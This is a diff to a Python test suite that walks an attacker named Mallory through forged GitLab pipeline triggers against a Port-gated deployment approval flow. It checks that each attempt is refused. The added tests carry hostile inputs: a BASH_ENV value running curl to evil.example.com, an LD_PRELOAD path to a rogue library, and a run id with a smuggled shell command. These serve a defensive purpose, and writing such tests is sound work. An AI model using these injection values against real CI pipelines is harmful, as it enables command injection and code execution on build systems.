@@ -28,42 +28,30 @@ def forged_webhook(story: Telling) -> None:
         "the catalogue is as it was", story.services.entity(change["sys_id"])["properties"]["approval"] == "requested"
     )
     _still_waits(story, run, pipelines=1)
-    _carry_on(story, run, change, pipelines=2)
+    _carry_on(story, run, change, pipelines=3)
 
 
 def forged_trigger(story: Telling) -> None:
     run, change = ask_with_low_coverage(story)
     url, token = story.services.trigger()
-    approval = {
-        "approval_status": "approved",
-        "system_id": change["sys_id"],
-        "deploy_run_id": run,
-        "port_context": {"runId": "r_0000000000000000"},
-    }
+    decision = {"call": "decision", "deploy_run": run, "run": "r_0000000000000000"}
     story.step(MALLORY, "GitLab", "starts the pipeline with a token of his own making")
-    said = story.services.anybody("POST", f"{url}?token=glptt-{'0' * 40}", approval)
+    said = story.services.anybody("POST", url, {"token": f"glptt-{'0' * 40}", "ref": "main", "inputs": decision})
     story.holds("GitLab refuses", said.status == 404, said.status)
+    genuine = {"token": token, "ref": "main"}
     _start(
-        story,
-        f"{url}?token={token}",
-        approval,
-        "with the right token, and claims an approval",
-        "Port does not know",
+        story, url, {**genuine, "inputs": decision}, "with the right token, and claims a decision", "is no open run of"
     )
-    request = {
-        "approval_status": "pending",
-        "entity": "shop/payments",
-        "environment": "Production",
-        "deploy_run_id": run,
-        "port_context": {"runId": "r_0000000000000000"},
-    }
-    _start(
-        story, f"{url}?token={token}", request, "and asks for another service under the same run", "Port does not know"
-    )
-    variables = {"variables": {"DEPLOY": "true"}, **approval}
-    _start(story, f"{url}?token={token}", variables, "and sends variables along", "Variables are not accepted")
+    deployment = {"call": "deploy", "deploy_run": run, "environment": "Staging"}
+    _start(story, url, {**genuine, "inputs": deployment}, "as the gate would, to deploy", "No approver has decided")
+    deployment = {"call": "deploy", "deploy_run": run, "environment": "Production"}
+    _start(story, url, {**genuine, "inputs": deployment}, "to deploy elsewhere", "asks for something else")
+    hostile = {"BASH_ENV": "$(curl evil.example.com)", "LD_PRELOAD": "/tmp/evil.so"}
+    _refused(story, url, {**genuine, "inputs": decision, "variables": hostile}, "with variables")
+    _refused(story, url, {**genuine, "inputs": {**decision, "BASH_ENV": "x"}}, "with an input that nobody declared")
+    _refused(story, url, {**genuine, "inputs": {**decision, "run": "r; curl evil.example.com"}}, "with a hostile id")
     _still_waits(story, run, pipelines=4)
-    _carry_on(story, run, change, pipelines=5)
+    _carry_on(story, run, change, pipelines=6)
 
 
 def word_only_patch(story: Telling) -> None:
@@ -85,7 +73,7 @@ def word_only_patch(story: Telling) -> None:
         "Port's catalogue shows that approval is still asked for",
         story.services.entity(change["sys_id"])["properties"]["approval"] == "requested",
     )
-    _carry_on(story, run, change, pipelines=3)
+    _carry_on(story, run, change, pipelines=4)
 
 
 def _start(story: Telling, url: str, payload: Row, what: str, why: str) -> None:
@@ -98,6 +86,13 @@ def _start(story: Telling, url: str, payload: Row, what: str, why: str) -> None:
     traces = [story.services.trace(job["id"]) for job in story.services.jobs(pipeline["id"])]
     story.holds(f"it deploys nothing, and says: {why}", any(why in trace for trace in traces))
     story.holds("nothing was deployed", story.deploy_starts() == 0)
+
+
+def _refused(story: Telling, url: str, body: Row, what: str) -> None:
+    story.step(MALLORY, "GitLab", f"starts the pipeline {what}")
+    said = story.services.anybody("POST", url, body)
+    story.holds("GitLab refuses, and there is no job", said.status == 400, said.status)
+    story.show(said.reason)
 
 
 def _still_waits(story: Telling, run: str, *, pipelines: int) -> None:
